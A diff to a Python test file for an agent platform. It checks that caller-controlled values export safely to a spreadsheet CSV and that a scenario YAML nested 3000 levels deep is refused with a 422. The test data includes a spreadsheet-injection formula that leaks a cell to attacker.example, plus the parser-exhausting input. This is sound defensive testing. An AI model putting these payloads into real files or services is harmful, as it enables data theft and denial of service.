@@ -1,6 +1,7 @@
-"""Values callers control — names, places, notes, phone numbers — are data wherever they go.
-Here: the Records CSV, which operators open in a spreadsheet. Each value is written the way a
-turn's tool writes it, then exported as the Records page exports it."""
+"""Hostile input is data, never a crash or a program. Values callers control — names, places,
+notes, phone numbers — reach the Records CSV, which operators open in a spreadsheet, as text
+(each written the way a turn's tool writes it, then exported as the Records page exports it);
+a file built to exhaust the parser is a clear refusal, not a 500."""
 
 from __future__ import annotations
 
@@ -15,9 +16,11 @@ import pytest
 
 from agent_core.domain import JsonDict, ToolCallRequest
 from agent_core.store.base import TenantWriter
+from agent_core.store.demo_data import DEMO_TENANT_ID
 from agent_core.store.sqlite import SqliteStore
 from agent_core.views import records_csv
 from tests.conftest import add_tenant
+from tests.http.conftest import RunningApi
 
 FORMULAS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
@@ -81,3 +84,13 @@ def test_ordinary_values_are_exported_unchanged(store: SqliteStore) -> None:
     assert row[header.index("Customer")] == "Zoë O'Neill-Smith"
     assert row[header.index("Place")] == "Paris, 5e"
     assert row[header.index("Date")] == "2027-03-15"
+
+
+def test_a_scenario_file_nested_thousands_deep_is_a_422_and_stores_nothing(api: RunningApi) -> None:
+    base = f"/api/tenants/{DEMO_TENANT_ID}/scenarios"
+    before = api.client.get(base).json()["data"]
+    deep = "scenarios: " + "[" * 3000 + "]" * 3000
+    answer = api.client.post(f"{base}/import", json={"yaml": deep})
+    assert answer.status_code == 422, answer.text
+    assert answer.json()["error"]["message"] == "invalid scenario file — nested deeper than 40 levels"
+    assert api.client.get(base).json()["data"] == before
